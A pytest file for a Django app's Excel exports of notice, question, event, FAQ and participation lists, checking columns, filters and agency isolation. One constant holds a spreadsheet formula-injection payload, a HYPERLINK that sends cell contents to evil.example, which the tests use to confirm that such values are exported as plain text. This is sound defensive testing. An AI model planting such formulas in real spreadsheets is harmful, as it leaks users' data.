"""Excel exports of the back-office lists, read back with openpyxl: the screen's columns,
every filtered row (not only the page), formula-looking text kept as text."""

import io
from datetime import timedelta

import openpyxl
import pytest
from django.utils import timezone

from deliberation.agencies.sites import site_reverse
from deliberation.content import admin_services, services
from tests.factories import CitizenFactory, agency_admin

from .conftest import event, notice

pytestmark = pytest.mark.django_db
MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def sheet(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return [list(row) for row in openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)]


def test_notice_export_every_filtered_row(client, agency, other_agency):
    admin = agency_admin(agency)
    bad = notice(admin, agency, title=MALICIOUS, pinned=True)
    for i in range(55):
        notice(admin, agency, title=f"공지 {i}")
    hidden = notice(admin, agency, title="숨긴 공지", is_public=False)
    notice(agency_admin(other_agency), other_agency, title="다른 기관 공지")
    client.force_login(admin)
    rows = sheet(client.get(site_reverse(agency, "manage_content_export", kind="notices")))
    assert rows[0] == ["No.", "Title", "Pinned", "State", "Public", "Published at", "Created"]
    assert len(rows) == 1 + 57
    assert rows[1][0] == bad.pk and rows[1][1] == MALICIOUS and rows[1][2] == "yes"  # text, not a formula
    titles = [row[1] for row in rows[1:]]
    assert "다른 기관 공지" not in titles
    rows = sheet(client.get(site_reverse(agency, "manage_content_export", kind="notices") + "?visibility=hidden"))
    assert [row[0] for row in rows[1:]] == [hidden.pk]
    rows = sheet(client.get(site_reverse(agency, "manage_content_export", kind="notices") + "?q=공지+5"))
    # Every word must match (title or text): "공지" and "5".
    assert sorted(row[1] for row in rows[1:]) == sorted(f"공지 {i}" for i in range(55) if "5" in str(i))


def test_question_and_event_exports(client, agency):
    admin = agency_admin(agency)
    waiting = services.ask_question(site=agency, author=CitizenFactory(display_name="박시민"), title="+대기 질문",
                                    body="답을 기다립니다.")
    answered = services.ask_question(site=agency, author=CitizenFactory(), title="답한 질문", body="답을 받았습니다.")
    admin_services.answer_question(actor=admin, site=agency, question_id=answered.pk, answer="답변입니다.")
    client.force_login(admin)
    rows = sheet(client.get(site_reverse(agency, "manage_content_export", kind="questions")))
    assert rows[0] == ["No.", "Title", "Asked by", "State", "Private question", "Public", "Asked", "Answered at"]
    assert [row[0] for row in rows[1:]] == [waiting.pk, answered.pk]  # waiting first
    assert rows[1][1] == "+대기 질문" and rows[1][3] == "waiting for an answer" and rows[1][7] is None
    assert rows[2][3] == "answered" and rows[2][7] is not None
    rows = sheet(client.get(site_reverse(agency, "manage_content_export", kind="questions") + "?state=waiting"))
    assert [row[0] for row in rows[1:]] == [waiting.pk]

    soon = event(admin, agency, title="곧 열릴 행사")
    event(admin, agency, title="지난 행사", starts_in=-timedelta(days=5))
    rows = sheet(client.get(site_reverse(agency, "manage_content_export", kind="events") + "?state=upcoming"))
    assert rows[0][:5] == ["No.", "Title", "Place", "State", "Starts"]
    assert [(row[0], row[1], row[3]) for row in rows[1:]] == [(soon.pk, "곧 열릴 행사", "upcoming")]
    day = timezone.localdate()
    rows = sheet(client.get(site_reverse(agency, "manage_content_export", kind="events")
                            + f"?date_from={day - timedelta(days=6)}&date_to={day - timedelta(days=4)}"))
    assert [row[1] for row in rows[1:]] == ["지난 행사"]


def test_faq_and_participation_exports(client, agency):
    admin = agency_admin(agency)
    admin_services.save_item(actor=admin, site=agency, kind="faq", data={
        "question": "회원가입은 어떻게 하나요?", "answer": "오른쪽 위 회원가입을 누르세요.", "category": "계정", "position": 2,
        "is_public": True})
    now = timezone.now()
    admin_services.save_item(actor=admin, site=agency, kind="participation", data={
        "title": "사진 공모전", "starts_at": now, "ends_at": now + timedelta(days=7),
        "announces_at": now + timedelta(days=10), "is_public": True})
    client.force_login(admin)
    rows = sheet(client.get(site_reverse(agency, "manage_content_export", kind="faq")))
    assert rows[1][1:4] == ["계정", 2, "회원가입은 어떻게 하나요?"]
    rows = sheet(client.get(site_reverse(agency, "manage_content_export", kind="participation")))
    assert rows[1][1:3] == ["사진 공모전", "in progress"]
